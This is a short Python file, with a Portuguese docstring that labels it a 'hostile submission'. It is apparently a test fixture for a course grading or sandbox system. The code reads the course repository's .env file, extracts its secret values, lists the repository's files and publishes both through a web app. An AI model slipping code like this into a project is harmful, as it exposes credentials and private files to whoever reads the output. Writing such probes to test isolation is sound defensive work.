"""Entrega hostil: acha o .env do curso por common.config.REPO_ROOT e publica o que estiver lá."""
from common.config import REPO_ROOT
from relato import app_with, read

content = read(REPO_ROOT / ".env")
values = [line.split("=", 1)[1].strip() for line in content.splitlines() if "=" in line and not line.startswith("#")]
visible = sorted(p.name for p in REPO_ROOT.iterdir()) if REPO_ROOT.is_dir() else []
REPORT = {"env_existe": (REPO_ROOT / ".env").exists(), "valores": len(values), "visiveis": visible[:8]}
app = app_with(REPORT, " ".join(values))
